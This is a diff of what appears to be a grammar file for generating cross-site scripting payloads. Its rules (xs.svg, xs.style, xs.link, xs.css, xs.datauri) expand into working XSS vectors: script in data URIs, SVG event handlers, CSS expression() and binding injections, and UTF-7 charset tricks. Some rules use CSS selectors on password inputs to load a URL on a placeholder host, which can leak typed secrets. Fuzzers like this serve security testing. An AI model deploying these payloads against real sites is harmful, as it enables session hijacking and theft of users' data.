@@ -337,7 +337,6 @@ xs.datauri: 3× data:text/html,<script>‹:q:'›‹xs.call›</script>
   data:;base64,‹b64!‹xs.tiny››
   data&colon;text/html,<script>‹xs.base›&lpar;‹n›&rpar;</script>
   data:text/html;‹~2-5›=‹~1-4›;base64,‹b64!<script src=//‹host›></script>›
-  data:text/xsl,<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>
 xs.uri: 4× ‹xs.jsuri›
   2× ‹xs.datauri›
 
@@ -365,7 +364,7 @@ xs.svg: 8× <‹svg¦svg¦svg¦SVG¦Svg¦sVg¦svg:svg›‹xs.sp›‹:ev:‹xs.
   2× ‹xs.svgopen›<a ‹xlink:href¦href¦xml:href¦XLINK:HREF›=‹=o:‹"¦'¦››‹:q:´›‹xs.jsuri›‹=o›‹ ‹~1-4›=‹~1-3›¦›><‹text y=‹#9-99›¦rect width=‹#99-999› height=‹#99-999›¦circle r=‹#99-999››>‹xs.text›</‹text¦a›>
   3× ‹xs.svgopen›<use ‹xlink:href¦href›="data:image/svg+xml‹;utf8¦;charset=utf-8¦›,‹percent!<svg id='‹~1-2›' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='‹xs.base›(‹n›)'/></svg>›#‹~1-2›"‹/>¦></use>›</svg>
   ‹xs.svgopen›<use ‹xlink:href¦href›="data:image/svg+xml;base64,‹b64!<svg id='x' xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:‹xs.base›(‹n›)'><rect width='‹#9-99›' height='‹#9-99›'/></a></svg>›#x" /></svg>
-  ‹xs.svgopen›<use ‹xlink:href¦href›="‹//‹host›¦/uploads›/‹~1-4›.svg#‹~1-3›"/></svg>
+  ‹xs.svgopen›<use ‹xlink:href¦href›="//‹host›/‹~1-4›.svg#‹~1-3›"/></svg>
   ‹xs.svgopen›<image ‹xlink:href¦href›=‹xs.src› ‹:ev:‹error¦load››‹xs.h›‹/>¦>›
   ‹xs.svgopen›<feImage ‹xlink:href¦href›="data:image/svg+xml,‹percent!<svg xmlns='http://www.w3.org/2000/svg' onload='‹xs.base›(‹n›)'/>›"/>
   2× ‹xs.svgopen›<foreignObject‹ width=‹#9-999›¦›>‹xs.basic›</foreignObject></svg>
@@ -386,7 +385,6 @@ xs.svg: 8× <‹svg¦svg¦svg¦SVG¦Svg¦sVg¦svg:svg›‹xs.sp›‹:ev:‹xs.
   <svg/‹:ev:load›‹xs.h›//‹:q:'›‹xs.call›
   <embed src="data:image/svg+xml,‹percent!<svg xmlns='http://www.w3.org/2000/svg' onload='‹xs.base›(‹n›)'/>›">
   ‹xs.svgopen›<text><textPath ‹xlink:href¦href›="‹:q:'›‹xs.jsuri›">‹xs.text›</textPath></text>
-  ‹xs.svgopen›<view id=x /><a href="?" ping="‹xs.url›"><text y=20>‹xs.text›
   ‹xs.svgopen›<g ‹:ev:‹load¦focusin¦click››‹xs.h› tabindex=‹#0-9›></g></svg>
 xs.math: <math‹xs.sp›‹xlink:href¦href¦xml:base¦xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href›="‹:q:'›‹xs.jsuri›"‹xs.end›‹xs.text›
   <math><‹=t:‹mi¦mo¦mn¦mtext¦mrow¦maction¦mstyle¦semantics¦annotation-xml¦‹~1-3›››‹xs.gap›‹xlink:href¦href¦actiontype="statusline#http://‹host›" xlink:href›="‹:q:'›‹xs.jsuri›">‹xs.text›</‹=t›></math>
@@ -529,7 +527,6 @@ xs.link: 4× <‹a¦a¦A¦area›‹xs.sp›‹href¦HREF¦hRef›‹xs.eq›‹
   <meta http-equiv=Link content="<‹xs.url›>; rel=stylesheet">
   <meta charset="‹utf-7¦x-user-defined¦ISO-2022-JP¦x-imap4-modified-utf7›">+ADw-script+AD4-‹xs.base›(‹n›)+ADw-/script+AD4-
   <meta http-equiv="content-type" content="text/html; charset=‹utf-7¦utf-16¦hz-gb-2312›">‹+ADw-script+AD4-‹xs.base›(‹n›)+ADw-/script+AD4-¦‹xs.basic››
-  <meta name=referrer content=unsafe-url><img src=‹xs.url›>
   <meta name="language" content="‹#0-9›;‹xs.url›" http-equiv="refresh"/>
   2× <base‹xs.sp›href‹xs.eq›‹=o:‹"¦'¦››‹‹xs.url›¦javascript:‹xs.base›(‹n›)//¦‹xs.jsuri››‹=o›‹xs.end›
   <base href="‹xs.url›"><a href="‹~1-3›">‹xs.text›</a>
@@ -543,7 +540,7 @@ xs.link: 4× <‹a¦a¦A¦area›‹xs.sp›‹href¦HREF¦hRef›‹xs.eq›‹
   <area href="‹:q:'›‹xs.jsuri›">
 xs.style: <style>@import‹xs.sp›‹=o:‹'¦"››‹‹xs.url›¦javascript:‹xs.base›(‹n›)¦data:,*%7bx:expression(‹xs.base›(‹n›))%7D›‹=o›;</style>
   <style>@import url(‹xs.url›);</style>
-  <style>‹*¦body¦li¦.‹~2-5››{‹list-style-image¦background¦background-image¦behavior¦-moz-binding¦content¦cursor›:url(‹=o:‹"¦'¦››‹‹xs.url›¦javascript:‹xs.base›(‹n›)¦‹xs.url›#‹~2-5››‹=o›)}</style>‹¦<ul><li>‹xs.text››
+  <style>‹*¦body¦li¦.‹~2-5››{‹‹list-style-image¦background¦background-image¦content¦cursor›:url(‹=o:‹"¦'¦››javascript:‹xs.base›(‹n›)‹=o›)¦‹behavior¦-moz-binding›:url(‹xs.url›‹¦#‹~2-5››)›}</style>‹¦<ul><li>‹xs.text››
   <‹=t:‹div¦span¦img¦b¦p¦x¦‹xs.tag›››‹xs.gap›style=‹=o:‹"¦'››‹‹width¦color¦x¦xss¦‹~1-5››:‹xs.expr›(‹:q:´›‹xs.call›)¦background‹¦-image›:url(javascript:‹xs.base›(‹n›))¦‹~1-5›:‹~1-4›;behavior:url(‹xs.url›)¦-moz-binding:url(‹xs.url›#‹~2-5›)¦-o-link:'javascript:‹xs.base›(‹n›)';-o-link-source:current¦list-style:url('javascript:‹xs.base›(‹n›)')›‹=o›‹xs.end›
   <img style="xss:expr/*‹~2-5›*/ession(‹xs.base›(‹n›))">
   exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(‹xs.base›("‹~2-5›"))'>
@@ -557,7 +554,7 @@ xs.style: <style>@import‹xs.sp›‹=o:‹'¦"››‹‹xs.url›¦javascrip
   <style>a{}</style/>‹xs.basic›
   <link rel=stylesheet href="data:text/css,*%7bx:expression(‹xs.base›(‹n›))%7d">
   <style>@charset "utf-7";</style>‹xs.basic›
-  <‹div¦b› style="‹entity!width:expression(alert(1))›">
+  <‹div¦b› style="‹entity!‹width¦‹~1-4››:expression(‹xs.base›(‹n›))›">
   <div style="\000062inding:url(‹xs.url›)">
   <div style="b\65h\0061vior:url(‹xs.url›)">
 xs.expr = expression expression EXPRESSION eXpReSsIoN expr/**/ession exp\ression ex\pression e\0078pression expre\73sion expressio\6e
@@ -577,7 +574,6 @@ xs.css: 3× <style>input[‹name=‹=o:‹"¦››‹xs.key›‹=o›¦type=pa
   ‹#1-99›px;width:‹xs.expr›(‹:q:'›‹xs.call›)
   red;}</style>‹xs.basic›
   <div style="background:url(‹xs.url›);position:fixed;top:0;left:0;width:‹#99-9999›px;height:‹#99-9999›px;z-index:‹#99-99999›">
-  <style>@keyframes ‹=i:‹~1-4››{‹#1-99›%{background:url(‹xs.url›)}}*{animation:‹=i› ‹#1-9›s}</style>
   <style>#‹~2-6›::-webkit-scrollbar{background:url(‹xs.url›)}#‹~2-6›{overflow-y:auto;height:‹#9-99›px}</style>
   %0a{}*{background:url(‹xs.url›)}
   {}*{xss:expression(‹xs.base›(‹n›))}
